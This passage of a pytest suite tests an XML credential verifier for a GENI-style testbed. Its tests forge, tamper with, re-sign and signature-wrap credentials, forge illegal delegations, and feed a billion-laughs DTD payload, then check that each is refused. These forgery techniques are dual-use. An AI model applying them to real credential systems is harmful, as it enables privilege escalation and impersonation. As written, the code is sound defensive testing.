    "remove-signatures-element": ("no <signatures>",),
    "empty-signature-value": ("does not verify",),
    "zeroed-signature-value": ("does not verify",),
    "empty-digest-value": ("does not verify",),
    "remove-key-info": ("names no signer certificate",),
    "garbage-certificate": ("cannot read the signer certificate",),
    "remove-signed-info": ("exactly one SignedInfo",),
    "foreign-element-in-signatures": ("unexpected",),
}


@pytest.mark.parametrize("damage", sorted(SIGNATURE_DAMAGE))
def test_removed_or_emptied_signature_material_is_refused(verdicts: Verdicts, genuine: str, damage: str) -> None:
    """The signature stripped, emptied, or its parts removed: always SIGNATURE, never accepted, never a crash."""
    root = parse(genuine)
    signature = signature_of(root, "ref0")
    if damage == "remove-signature":
        signatures(root).remove(signature)
    elif damage == "remove-signatures-element":
        root.remove(signatures(root))
    elif damage == "empty-signature-value":
        child(signature, f"{DS}SignatureValue").text = None
    elif damage == "zeroed-signature-value":
        value = child(signature, f"{DS}SignatureValue")
        value.text = base64.b64encode(bytes(len(base64.b64decode(value.text or "")))).decode("ascii")
    elif damage == "empty-digest-value":
        child(signature, f"{DS}SignedInfo/{DS}Reference/{DS}DigestValue").text = None
    elif damage == "remove-key-info":
        signature.remove(child(signature, f"{DS}KeyInfo"))
    elif damage == "garbage-certificate":
        for certificate in signature.iter(f"{DS}X509Certificate"):
            certificate.text = "bm90IGEgY2VydGlmaWNhdGU="
    elif damage == "remove-signed-info":
        signature.remove(child(signature, f"{DS}SignedInfo"))
    else:
        etree.SubElement(signatures(root), "note").text = "trust me"
    verdicts.refuse(serialize(root), Reason.SIGNATURE, *SIGNATURE_DAMAGE[damage])


@pytest.mark.parametrize("chain_of", ["bob", "bob-then-authority-root"])
def test_key_info_swapped_for_another_certificate_does_not_verify(
    verdicts: Verdicts, genuine: str, pki: DemoPki, bob: DemoUser, chain_of: str
) -> None:
    """KeyInfo names bob instead of the authority: checked with bob's key, the authority's signature fails."""
    root = parse(genuine)
    signature = signature_of(root, "ref0")
    signature.remove(child(signature, f"{DS}KeyInfo"))
    chain = bob.chain[:1] if chain_of == "bob" else bob.chain
    signature.append(key_info_for(chain))
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "does not verify", BOB_URN)


# ---------------------------------------------------------------------------------------------------------------
# 8k: signed by someone who is no authority


def test_credential_issued_by_a_user_is_an_issuer_refusal(verdicts: Verdicts, pki: DemoPki, bob: DemoUser) -> None:
    """Bob (a user with a trusted chain) issues himself a slice credential with 'authority' and signs it."""
    request = CredentialRequest(
        owner_chain=bob.chain,
        target_chain=pki.slice_chain,
        expires=utcnow() + timedelta(days=1),
        privileges=(Privilege("authority", True), Privilege("control", True)),
    )
    document = issue_credential(request, bob.key, bob.chain)
    error = verdicts.refuse(document, Reason.ISSUER, BOB_URN, "no authority")
    assert error.code == GeniCode.CREDENTIAL_SIGNER_UNTRUSTED


def test_resigned_tampered_credential_is_an_issuer_refusal(verdicts: Verdicts, genuine: str, bob: DemoUser) -> None:
    """Bob changes the owner of alice's credential to himself and replaces the authority's signature by his own."""
    root = parse(genuine)
    set_owner(top(root), bob.chain)
    signatures(root).remove(signature_of(root, "ref0"))
    document = sign_document(root, "ref0", bob.key, bob.chain)
    error = verdicts.refuse(document, Reason.ISSUER, "no authority")
    assert error.code == GeniCode.CREDENTIAL_SIGNER_UNTRUSTED


def test_credential_signed_by_a_rogue_authority_of_the_same_name_is_untrusted(
    verdicts: Verdicts, pki: DemoPki, bob: DemoUser
) -> None:
    """A self-made 'testbed' authority (same URN, another key) signs a credential: its chain is not trusted."""
    rogue_key = new_private_key()
    rogue = create_gid(pki.authority.chain[0].urn or "", rogue_key.public_key(), rogue_key)
    request = CredentialRequest(
        owner_chain=bob.chain,
        target_chain=pki.slice_chain,
        expires=utcnow() + timedelta(days=1),
        privileges=(Privilege("control", True),),
    )
    document = issue_credential(request, rogue_key, (rogue,))
    error = verdicts.refuse(document, Reason.UNTRUSTED_CHAIN, "signer")
    assert error.code == GeniCode.CREDENTIAL_SIGNER_UNTRUSTED


# ---------------------------------------------------------------------------------------------------------------
# 8l-m: delegation rules


def test_delegation_signed_by_someone_else_than_the_parent_owner(
    verdicts: Verdicts, delegated: str, carol: DemoUser
) -> None:
    """Carol re-signs alice's delegation to bob with her own key: only alice, the parent's owner, may delegate."""
    root = parse(delegated)
    signatures(root).remove(signature_of(root, "ref1"))
    document = sign_document(root, "ref1", carol.key, carol.chain)
    verdicts.refuse(document, Reason.DELEGATION, "only the parent's owner", ALICE_URN)


def test_delegation_signed_by_the_new_owner_himself(verdicts: Verdicts, genuine: str, bob: DemoUser) -> None:
    """Bob delegates alice's credential to himself, signing with his own key."""
    document = forge_delegation(genuine, bob.chain, bob.key, bob.chain, (Privilege("control", False),))
    verdicts.refuse(document, Reason.DELEGATION, "only the parent's owner")


def test_delegation_raising_privileges(verdicts: Verdicts, genuine: str, alice: DemoUser, bob: DemoUser) -> None:
    """Alice delegates 'authority', which her slice credential does not hold."""
    document = forge_delegation(genuine, bob.chain, alice.key, alice.chain, (Privilege("authority", True),))
    error = verdicts.refuse(document, Reason.DELEGATION, "'authority'", "not delegatable")
    assert error.code == GeniCode.CREDENTIAL_INVALID


def test_delegation_of_a_non_delegatable_privilege(verdicts: Verdicts, alice: DemoUser, bob: DemoUser) -> None:
    """Alice's user credential holds 'info' without can_delegate; she delegates it anyway."""
    document = forge_delegation(alice.user_cred, bob.chain, alice.key, alice.chain, (Privilege("info", False),))
    verdicts.refuse(document, Reason.DELEGATION, "'info'", "not delegatable")


def test_delegation_outliving_its_parent(verdicts: Verdicts, genuine: str, alice: DemoUser, bob: DemoUser) -> None:
    """A delegated credential that expires a day after the credential it was delegated from."""
    parent_expires = read_credential(genuine).credential.expires
    document = forge_delegation(
        genuine,
        bob.chain,
        alice.key,
        alice.chain,
        (Privilege("info", False),),
        expires=parent_expires + timedelta(days=1),
    )
    verdicts.refuse(document, Reason.DELEGATION, "after its parent")


def test_delegation_changing_the_target(verdicts: Verdicts, genuine: str, alice: DemoUser, bob: DemoUser) -> None:
    """A delegation that moves the slice credential's privileges onto another object (alice's own user record)."""
    document = forge_delegation(
        genuine, bob.chain, alice.key, alice.chain, (Privilege("info", False),), target=alice.chain
    )
    verdicts.refuse(document, Reason.DELEGATION, "target changed")


def test_delegation_with_tampered_parent(verdicts: Verdicts, delegated: str, bob: DemoUser) -> None:
    """Inside a genuine delegation, the authority-signed parent is edited (owner -> bob): its signature fails."""
    root = parse(delegated)
    set_owner(child(top(root), "parent/credential"), bob.chain)
    # alice's signature over 'ref1' covers the nested parent too, and is checked first
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "'ref1'", "does not verify")


def test_delegation_with_unsigned_parent(verdicts: Verdicts, delegated: str) -> None:
    """Inside a genuine delegation, the parent's (authority's) signature is removed."""
    root = parse(delegated)
    signatures(root).remove(signature_of(root, "ref0"))
    verdicts.refuse(serialize(root), Reason.SIGNATURE, "'ref0' is not signed")


# ---------------------------------------------------------------------------------------------------------------
# 9: no state damage, the verdict cache, check_call


def test_same_verifier_still_accepts_genuine_credentials_after_all_attacks(
    verdicts: Verdicts, delegated: str, pki: DemoPki
) -> None:
    """After every attack above, the shared verifier accepts the genuine and the delegated credential."""
    verified = verdicts.still_accepts_genuine()
    assert verified.target_urn == pki.slice_urn
    assert verdicts.verifier.verify(delegated, utcnow()).owner_urn == BOB_URN


def test_cache_never_serves_a_forged_variant_of_a_cached_credential(pki: DemoPki, genuine: str, bob: DemoUser) -> None:
    """A verdict cached for the genuine credential is not reused for a forgery of it (its digest differs)."""
    cache = VerdictCache()
    verifier = CredentialVerifier(pki.roots, cache=cache)
    verified = verifier.verify(genuine, utcnow())
    assert (len(cache), cache.hits) == (1, 0)
    assert verifier.verify(genuine.encode("utf-8"), utcnow()) == verified  # same bytes: a hit
    assert cache.hits == 1
    root = parse(genuine)
    set_owner(top(root), bob.chain)
    forgeries: list[bytes] = [serialize(root)]
    root = parse(genuine)
    add_privilege(top(root), "authority")
    forgeries.append(serialize(root))
    root = parse(genuine)
    original = top(root)
    forged = copy.deepcopy(original)
    forged.set(XML_ID, "ref1")
    set_owner(forged, bob.chain)
    root.remove(original)
    root.insert(0, forged)
    etree.SubElement(root, "extensions").append(original)
    forgeries.append(serialize(root))
    for forgery in forgeries:
        with pytest.raises(TrustError) as caught:
            verifier.verify(forgery, utcnow())
        assert caught.value.reason is Reason.SIGNATURE
        assert cache.hits == 1  # not served from the cache
        assert len(cache) == 1  # and the refusal was not cached
    assert verifier.verify(genuine, utcnow()) == verified
    assert cache.hits == 2


def test_check_call_skips_hostile_credentials_and_reports_them(
    verdicts: Verdicts, genuine: str, pki: DemoPki, alice: DemoUser
) -> None:
    """check_call with hostile credentials beside a genuine one uses the genuine one; alone, they are refused."""
    hostile = dtd_attack(genuine, BILLION_LAUGHS, "lol9")
    root = parse(genuine)
    add_privilege(top(root), "authority")
    tampered = serialize(root)
    at = utcnow()
    verified = verdicts.verifier.check_call(
        alice.chain, [hostile, tampered, genuine], pki.slice_urn, "createsliver", at
    )
    assert verified.owner_urn == ALICE_URN
    with pytest.raises(TrustError) as caught:
        verdicts.verifier.check_call(alice.chain, [hostile], pki.slice_urn, "createsliver", at)
    assert caught.value.reason is Reason.HOSTILE_XML
    assert caught.value.code == GeniCode.CREDENTIAL_INVALID
    with pytest.raises(TrustError) as caught:
        verdicts.verifier.check_call(alice.chain, [tampered], pki.slice_urn, "createsliver", at)
    assert caught.value.reason is Reason.SIGNATURE
    assert "does not verify" in caught.value.message
    verdicts.still_accepts_genuine()
